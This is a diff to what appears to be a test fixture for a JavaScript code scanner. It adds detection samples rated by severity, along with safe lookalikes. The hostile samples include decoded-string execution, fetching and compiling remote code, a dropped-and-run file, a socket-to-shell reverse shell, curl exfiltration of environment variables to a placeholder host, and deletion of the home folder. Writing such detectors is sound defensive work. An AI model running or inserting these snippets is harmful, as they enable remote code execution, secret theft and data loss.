@@ -158,6 +158,40 @@ FAULTS = {
         "import fs from 'fs/promises';\nawait fs.appendFile(os.homedir() + '/.bashrc', line);",
         ("high", CAPABILITY, 2),
     ),
+    "a text that a timer runs": (
+        "const text = Buffer.from(given, 'hex').toString();\nsetTimeout(text, 9);",
+        ("critical", CAPABILITY, 2),
+    ),
+    "a constructor of functions": (
+        "const make = (async () => {}).constructor;\nmake(atob(given))();",
+        ("critical", CAPABILITY, 2),
+    ),
+    "a module that is compiled": (
+        "const r = await fetch('https://<HOST>/m.js');\nnew (require('module'))('m')._compile(await r.text(), 'm.js');",
+        ("critical", CAPABILITY, 2),
+    ),
+    "a file that is dropped and run": (
+        (
+            "const fs = require('fs');\nfetch('https://<HOST>/x').then(r => r.text()).then(t => {\n"
+            "  fs.writeFileSync('/tmp/x.js', t);\n  require('child_process').exec('node /tmp/x.js');\n});"
+        ),
+        ("critical", CAPABILITY, 4),
+    ),
+    "one shell or the other": (
+        (
+            "import cp from 'child_process';\nimport { Socket } from 'net';\nclass A {\n  s = new Socket();\n"
+            "  go() {\n    const sh = cp.spawn(windows ? 'cmd.exe' : '<SHELL>');\n    this.s.pipe(sh.stdin);\n  }\n}"
+        ),
+        ("critical", CAPABILITY, 7),
+    ),
+    "a program that sends": (
+        "require('child_process').execSync(`<CURL> -d '${JSON.stringify(<ENV>)}' https://<HOST>`);",
+        ("critical", SECRET, 1),
+    ),
+    "the home folder deleted": (
+        "const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true });",
+        ("critical", CAPABILITY, 2),
+    ),
     "certificates ignored": (
         "const https = require('https');\nnew https.Agent({ rejectUnauthorized: false });",
         ("medium", OTHER, 2),
@@ -202,6 +236,13 @@ HARMLESS = {
     "a start file of its own": "import fs from 'fs';\nfs.writeFileSync('./profile.json', text);",
     "an own function of that name": "function <EVAL>_(x) { return x; }\nconst exec = (x) => x;\nexec('rm -rf /');",
     "a method of that name": "const m = /a/.exec(given);\ndb.exec('SELECT 1');",
+    "a folder of its own deleted": "const fs = require('fs');\nfs.rmSync('./build', { recursive: true });",
+    "a file that is fetched": (
+        "const fs = require('fs');\nconst r = await fetch('https://<HOST>/x.json');\n"
+        "fs.writeFileSync('x.json', await r.text());\nrequire('child_process').execFile('node', ['index.js']);"
+    ),
+    "a function later": "setTimeout(() => go(Buffer.from(given, 'hex').toString()), 9);",
+    "a class of its own": "class A {}\nconst B = new A().constructor;\nB('x');",
     "certificates looked at": "const https = require('https');\nnew https.Agent({ rejectUnauthorized: true });",
     "a picture": f"const x = 'data:image/png;base64,{'QUJD' * 60}';",
     "a text about keys": "const help = 'Put your key into ~/.ssh and run';",
